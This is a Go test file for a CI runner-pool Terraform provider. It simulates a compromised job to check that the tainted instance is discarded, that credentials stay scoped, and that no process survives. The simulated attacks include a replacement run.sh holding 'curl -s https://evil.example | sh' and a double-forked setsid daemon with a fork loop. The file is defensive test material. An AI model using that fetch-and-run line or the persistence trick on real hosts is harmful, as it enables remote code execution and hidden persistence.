//go:build linux

package sandbox_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/runnerpool/terraform-provider-runnerpool/internal/agent"
	"github.com/runnerpool/terraform-provider-runnerpool/internal/release"
	"github.com/runnerpool/terraform-provider-runnerpool/internal/store"
	"github.com/runnerpool/terraform-provider-runnerpool/test/agenttest"
	"github.com/runnerpool/terraform-provider-runnerpool/test/sandbox"
)

// withRunnerUser starts a sandbox whose agents' runner user is a throwaway uid (the job's processes
// run under it) and returns it with the uid and the instances' root.
func withRunnerUser(t *testing.T) (*sandbox.Sandbox, int, string) {
	t.Helper()
	uid := agenttest.ThrowawayUID(t)
	root := t.TempDir()
	sb := start(t, sandbox.Options{Root: root, RunnerUser: strconv.Itoa(uid)})
	t.Cleanup(func() { // whatever a failed test left: kill until none is left (a loop keeps forking)
		for range 100 {
			pids, _ := agent.ProcessesOf(uid)
			if len(pids) == 0 {
				return
			}
			for _, pid := range pids {
				_ = syscall.Kill(pid, syscall.SIGKILL)
			}
			time.Sleep(10 * time.Millisecond)
		}
	})
	return sb, uid, root
}

// leaveDaemon is the job leaving a daemon the way a job can: double-forked into a session of its own
// under the runner uid, plus a loop that keeps forking; the job itself exits.
func leaveDaemon(t *testing.T, uid int) {
	t.Helper()
	job := exec.CommandContext(t.Context(), "/bin/sh", "-c",
		`setsid sh -c 'sleep 600 & ( while :; do sleep 600 & sleep 0.01; done ) & wait' </dev/null >/dev/null 2>&1 & exit 0`)
	job.Dir = "/"
	job.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(uid)}}
	if out, err := job.CombinedOutput(); err != nil {
		t.Fatalf("starting the job's daemon: %v: %s", err, out)
	}
	waitFor(t, "the job's daemons to start", 10*time.Second, func() bool { return len(processesOf(t, uid)) >= 3 })
}

func processesOf(t *testing.T, uid int) []int {
	t.Helper()
	pids, err := agent.ProcessesOf(uid)
	if err != nil {
		t.Fatal(err)
	}
	return pids
}

// noLeftovers: the workflow about to run on instance id sees none of a job's leftovers: no process
// of the runner uid is alive and its runner installation matches its manifest.
func noLeftovers(t *testing.T, root string, uid int, id, what string) {
	t.Helper()
	if left := processesOf(t, uid); len(left) != 0 {
		t.Errorf("%s: processes of the runner uid %d alive: %v", what, uid, left)
	}
	d := agenttest.InstanceDirs(root, id)
	if err := agent.VerifyInstallation(d.Install, d.Manifest); err != nil {
		t.Errorf("%s: runner installation of %s: %v", what, id, err)
	}
}

// TestCompromisedJobAllAttacksOnOneRun plays issue 11's compromised job in all five ways on one
// instance and run of repository A: it rewrites its own items, forges signals, races the agent for
// the credentials, replaces run.sh and leaves a daemon. No credential for another repository is
// minted, the instance is discarded (expired, terminated, never pooled), and neither repository B's
// workflow nor A's next run sees a leftover: no daemon, no modified script, not the tainted instance.
func TestCompromisedJobAllAttacksOnOneRun(t *testing.T) {
	t.Parallel()
	sb, uid, root := withRunnerUser(t)
	gh, cp := attackedControlPlane(t, sb)
	ctx := t.Context()

	runA := newRun()
	resA, err := cp.Provisioner.Provision(ctx, request(runA))
	if err != nil || len(resA.Runners) != 1 {
		t.Fatalf("provision A: %+v, %v", resA, err)
	}
	x := resA.Runners[0].InstanceID
	atk := instanceRole(sb, x)
	runJob(t, sb, resA.Label)

	// The job: rewrites its items, forges a signal ahead, replaces run.sh, leaves a daemon.
	rewriteOwnItems(t, sb, x, resA.RunKey)
	forgeStaleRelease(t, atk, x, resA.RunKey)
	if err := os.WriteFile(filepath.Join(agenttest.InstanceDirs(root, x).Install, "run.sh"),
		[]byte("#!/bin/bash\ncurl -s https://evil.example | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	leaveDaemon(t, uid)

	// The release, with the job racing the agent for the removal credential and forging "released".
	mintsBefore := len(sb.Stack.GitHub.Minted())
	race := raceForRelease(ctx, atk, x, resA.RunKey)
	rep, err := cp.Releaser.Release(ctx, resA.RunKey, 10*time.Minute)
	// The agent refuses to run a modified config.sh, so the removal credential may be withdrawn
	// before the job reads it; what it can read is A's, and it can never take it.
	if removal, err := race.wait(t); err == nil && !strings.HasSuffix(removal.URL, "/"+sandbox.Scope) {
		t.Errorf("the removal credential the job could read is for %s, want repository A's", removal.URL)
	} else {
		t.Logf("racing for the removal credential: %q, %v", removal.URL, err)
	}
	if err != nil || rep.Count(release.Pooled) != 0 || rep.Count(release.Expired) != 1 {
		t.Fatalf("release of the compromised run = %+v, %v; want the instance expired, not pooled", rep, err)
	}
	t.Logf("release: %s", rep.Instances[0].Reason)
	if n := poolMessages(t, sb); n != 0 {
		t.Errorf("pool holds %d messages after the compromised release, want 0", n)
	}
	mintedOnlyFor(t, sb, mintsBefore, sandbox.Scope, "the release")
	if _, err := cp.Refresher.Run(ctx); err != nil {
		t.Fatalf("refresh: %v", err)
	}
	if rec := record(t, sb, x); rec.State != store.StateTerminated {
		t.Errorf("after refresh the compromised instance is %s, want terminated", rec.State)
	}
	waitFor(t, "EC2 to terminate "+x, 10*time.Second, func() bool { return gone(ec2State(sb, x)) })

	// Repository B's next workflow, then A's next run: new instances, no leftovers.
	mintsBefore = len(sb.Stack.GitHub.Minted())
	resB, err := cp.Provisioner.Provision(ctx, requestFor("5151", otherRepo, newRun()))
	if err != nil || len(resB.Runners) != 1 || resB.Runners[0].InstanceID == x || resB.Runners[0].Source != "created" {
		t.Fatalf("provision B = %+v, %v; want one created instance, not %s", resB, err, x)
	}
	mintedOnlyFor(t, sb, mintsBefore, otherRepo, "B's provision")
	noLeftovers(t, root, uid, resB.Runners[0].InstanceID, "B's workflow")

	runA2 := newRun()
	resA2, err := cp.Provisioner.Provision(ctx, request(runA2))
	if err != nil || len(resA2.Runners) != 1 || resA2.Runners[0].InstanceID == x || resA2.Runners[0].Source != "created" {
		t.Fatalf("provision A's next run = %+v, %v; want one created instance, not %s", resA2, err, x)
	}
	noLeftovers(t, root, uid, resA2.Runners[0].InstanceID, "A's next run")
	runJob(t, sb, resA2.Label)

	noForeignCredential(t, sb, gh)
}

// TestLeftDaemonOnlyIsKilledAndPooled: a job that only leaves a daemon (double-forked, setsid, under
// the runner uid) and tampers with nothing else: the release kills the daemon and pools the instance
// clean, and the next workflow reuses it and sees no leftover process.
func TestLeftDaemonOnlyIsKilledAndPooled(t *testing.T) {
	t.Parallel()
	sb, uid, root := withRunnerUser(t)
	_, cp := attackedControlPlane(t, sb)
	ctx := t.Context()

	run := newRun()
	res, err := cp.Provisioner.Provision(ctx, request(run))
	if err != nil || len(res.Runners) != 1 {
		t.Fatalf("provision: %+v, %v", res, err)
	}
	x := res.Runners[0].InstanceID
	runJob(t, sb, res.Label)
	leaveDaemon(t, uid)

	rep, err := cp.Releaser.Release(ctx, res.RunKey, 10*time.Minute)
	if err != nil || rep.Count(release.Pooled) != 1 {
		t.Fatalf("release = %+v, %v; want the instance pooled", rep, err)
	}
	if left := processesOf(t, uid); len(left) != 0 {
		t.Errorf("processes of the runner uid %d alive after the release: %v", uid, left)
	}

	next := newRun()
	resN, err := cp.Provisioner.Provision(ctx, request(next))
	if err != nil || len(resN.Runners) != 1 || resN.Runners[0].InstanceID != x || resN.Runners[0].Source != "reused" {
		t.Fatalf("provision of the next run = %+v, %v; want %s reused", resN, err, x)
	}
	noLeftovers(t, root, uid, x, "the next workflow")
	runJob(t, sb, resN.Label)
	if left := processesOf(t, uid); len(left) != 0 {
		t.Errorf("processes of the runner uid %d alive during the next workflow: %v", uid, left)
	}
}
